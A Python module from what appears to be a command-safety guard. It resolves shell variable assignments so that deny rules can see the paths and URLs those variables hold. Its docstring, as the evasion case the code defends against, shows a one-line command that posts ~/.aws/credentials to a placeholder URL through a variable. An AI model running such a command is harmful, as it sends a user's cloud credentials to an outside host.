"""Variables a command assigns and its later words use: ``F=~/.aws/credentials; curl -d
@"$F" URL`` sends the credentials file, though no word of the curl names it.

A plain assignment (``NAME=value``, ``export NAME=value``) whose value the guard can read
(no expansion or substitution in it) binds ``$NAME`` and ``${NAME}`` in the pieces after
it, so the rules see the path or URL the variable holds. The binding is how the shell
reads a simple list; inside a subshell or a pipeline it may not hold, so a piece read
through one is never granted (its doubt says why): the binding only lets the rules that
deny or ask see more. A value the parse already knows for certain (`literals`: set once,
unconditionally, to a literal) is read there and may be granted; this binding covers the
rest (``export F=~/x``, a tilde, a value set twice), and stands back where something unseen
may set a variable (``source``, ``read``, ``printf -v``: `literals.sets_unseen`).
"""

from __future__ import annotations

import re

from amplifier_hooks.guard.model import Piece

__all__ = ["ASSIGNED", "assigns", "bind_assignments"]

ASSIGNED = "a variable's value is read from an assignment earlier in the command"
_NAME = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
_USE = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}|\$([A-Za-z_][A-Za-z0-9_]*)")
_PIDS = re.compile(r"\$\((?:pgrep|pidof)\s[^$()`]*\)")
"""A value that is the process ids a finder prints, with nothing in it to expand:
``$(pgrep -f x)``, ``$(pidof x)`` (their words name processes, never files)."""
_DECLARERS = frozenset({"export", "readonly", "local", "declare", "typeset"})
MAX_BOUND = 32


def assigns(piece: Piece) -> bool:
    """Whether ``piece`` is a plain assignment (``F=x``) or declares names (``export F=x``,
    ``declare -n t``)."""
    if piece.program is None:
        return bool(piece.env) and not piece.args and piece.opaque is None
    return piece.program in _DECLARERS and bool(piece.args)


def bind_assignments(pieces: tuple[Piece, ...]) -> tuple[Piece, ...]:
    """``pieces`` with each ``$NAME`` an earlier plain assignment of the same command binds
    replaced by its value (`ASSIGNED` is then the piece's doubt)."""
    bound: dict[str, str | None] = {}
    out: list[Piece] = []
    for piece in pieces:
        if assigns(piece):
            _bind(piece, bound)
            out.append(piece)
            continue
        words = (*piece.args, *piece.writes, *piece.reads)
        if not bound or not any("$" in w for w in words):
            out.append(piece)
            continue
        args, writes, reads = (_bound(ws, bound) for ws in (piece.args, piece.writes, piece.reads))
        if (args, writes, reads) == (piece.args, piece.writes, piece.reads):
            out.append(piece)
            continue
        dynamic = any("$" in a or "`" in a for a in args)
        out.append(piece._replace(args=args, writes=writes, reads=reads, dynamic=dynamic,
                                  doubt=piece.doubt or ASSIGNED))  # fmt: skip
    return tuple(out)


def _bound(words: tuple[str, ...], bound: dict[str, str | None]) -> tuple[str, ...]:
    return tuple(_USE.sub(lambda m: _value(m, bound), w) if "$" in w else w for w in words)


def _bind(piece: Piece, bound: dict[str, str | None]) -> None:
    words = piece.env if piece.program is None else piece.args
    # `declare -n t=HOME` makes t another name for HOME, `-a`/`-A` an array: not a value
    options = piece.program is not None and any(w.startswith(("-", "+")) for w in words)
    for word in words:
        name, equals, value = word.partition("=")
        if _NAME.fullmatch(name) is None or len(bound) >= MAX_BOUND:
            continue
        if options:  # (the shell reads `declare -n t=HOME` as `declare -n t; t=HOME`)
            bound[f"-{name}"] = bound[name] = None
        elif equals:
            # a value with an expansion in it is not known: its uses stay. Process ids
            # found by name (`P=$(pgrep -f NAME)`) are bound as the finder's text, so the
            # rules on whose process a later `kill "$P"` signals see the name
            shown = _PIDS.fullmatch(value) is not None
            unknown = f"-{name}" in bound or ("$" in value and not shown) or "`" in value
            bound[name] = None if unknown else value


def _value(found: re.Match[str], bound: dict[str, str | None]) -> str:
    value = bound.get(found.group(1) or found.group(2))
    return found.group(0) if value is None else value
